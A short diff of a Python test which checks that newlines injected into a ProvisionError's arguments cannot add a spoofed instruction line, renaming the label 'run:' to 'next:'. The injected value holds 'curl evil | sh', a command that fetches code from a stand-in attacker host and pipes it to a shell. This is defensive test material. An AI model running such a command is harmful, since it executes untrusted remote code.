@@ -48,8 +48,8 @@ def test_a_name_cannot_add_a_finding() -> None:
 
 
 def test_a_message_of_the_server_cannot_add_a_part_to_an_error() -> None:
-    lines = str(ProvisionError("failed\n  run:     a", seen="x\n  run:     curl evil | sh", run="docs")).splitlines()
-    assert [line for line in lines if line.startswith("  run:")] == ["  run:     docs"]
+    lines = str(ProvisionError("failed\n  next:    a", seen="x\n  next:    curl evil | sh", run="docs")).splitlines()
+    assert [line for line in lines if line.startswith("  next:")] == ["  next:    docs"]
 
 
 @click.command()
